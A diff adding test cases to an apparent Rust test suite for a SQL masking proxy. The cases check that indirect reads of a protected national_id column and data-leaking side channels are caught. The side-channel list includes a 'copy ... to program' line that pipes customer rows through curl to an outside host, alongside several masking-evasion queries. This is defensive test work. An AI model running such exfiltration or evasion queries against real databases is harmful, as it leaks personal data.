@@ -159,7 +159,21 @@ const MASKED: &[(&str, &str, &str)] = &[
         "?",
         "M",
     ),
+    ("select (select reverse(x) from (select c.national_id x) q) from customers c", "?", "M"),
+    ("select (select national_id) from customers", "?", "M"),
+    ("select reverse(x) from unnest((select array_agg(national_id) from customers)) x", "?", "M"),
+    ("select * from rows from (unnest(array(select national_id from customers)))", "?", "M"),
+    ("select xmlelement(name x, national_id) from customers", "?", "M"),
+    ("select json_object('a': national_id) from customers", "?", "M"),
+    ("select jsonb_path_query(to_jsonb(c), '$.national_id') from customers c", "?", "M"),
+    ("select (t).f1 from (select row(national_id) as t from customers) s", "?", "M"),
+    ("select s.c from (select c from customers c) s", "customers.", "M"),
+    ("select reverse(national_id) from customers for update", "?", "M"),
+    ("select distinct reverse(national_id) from customers", "?", "M"),
+    ("select hstore(c) from customers c", "?", "M"),
+    ("with x as materialized (select national_id from customers) select x.national_id || '' from x", "?", "M"),
     // set operations and VALUES (the server names no source)
+    ("select reverse(national_id) from customers union all select reverse(name) from customers", "?", "M"),
     ("select national_id from customers union select 'x'", "?", "M"),
     ("select 'x' union all select national_id from customers", "?", "M"),
     ("select id, name from orders except select id, national_id from customers", "? ?", ".M"),
@@ -235,6 +249,14 @@ const KEPT: &[(&str, &str, &str)] = &[
     ("show search_path", "?", "."),
     ("explain select reverse(national_id) from customers", "?", "."),
     ("select 1; select 2", "?", "."),
+    ("select (select max(total) from orders o where o.customer_id = c.id) from customers c", "?", "."),
+    ("select (select count(*) from orders o where o.customer_id = c.id) from customers c", "?", "."),
+    ("select upper(name) from customers where id in (select customer_id from orders)", "?", "."),
+    (
+        "with customers as (select name as national_id from customers) select reverse(national_id) from customers",
+        "?",
+        ".",
+    ),
 ];
 
 #[test]
@@ -357,6 +379,12 @@ const SIDE_CHANNELS: &[&str] = &[
     "execute s((select national_id from customers limit 1))",
     "create table x as execute s",
     "call p((select national_id from customers limit 1))",
+    "select pg_notify('c', (select national_id from customers limit 1))",
+    "copy (select * from customers) to program 'curl -d @- example.com'",
+    "prepare p as insert into log select national_id from customers",
+    "explain analyze insert into log select national_id from customers",
+    "create table log as table customers",
+    "select * into temp t from customers",
 ];
 
 const NOT_SIDE_CHANNELS: &[&str] = &[
@@ -383,6 +411,11 @@ const NOT_SIDE_CHANNELS: &[&str] = &[
     "fetch 10 from k",
     "set search_path = public",
     "begin",
+    "insert into orders (customer_id, total) select id, 10 from customers where national_id = 'x'",
+    "update orders set total = 0 where customer_id in (select id from customers where national_id like '1%')",
+    "create table x as select id from customers where national_id is not null",
+    "declare k cursor for select national_id from customers",
+    "prepare p as select reverse(national_id) from customers",
 ];
 
 #[test]
@@ -429,6 +462,9 @@ fn statements_that_read_ruled_columns_are_known() {
         "select c from customers c",
         "select 1 from (select national_id x from customers) s where x::int > 0",
         "select reverse(",
+        // A failed constraint quotes the whole new row.
+        "update customers set name = null where id = 1",
+        "insert into customers (id, name) values (1, null)",
     ] {
         assert!(references_ruled(sql, &rules), "{sql}");
     }
@@ -436,6 +472,7 @@ fn statements_that_read_ruled_columns_are_known() {
         "select name::int from customers",
         "select 1",
         "select * from orders",
+        "update orders set total = null",
     ] {
         assert!(!references_ruled(sql, &rules), "{sql}");
     }
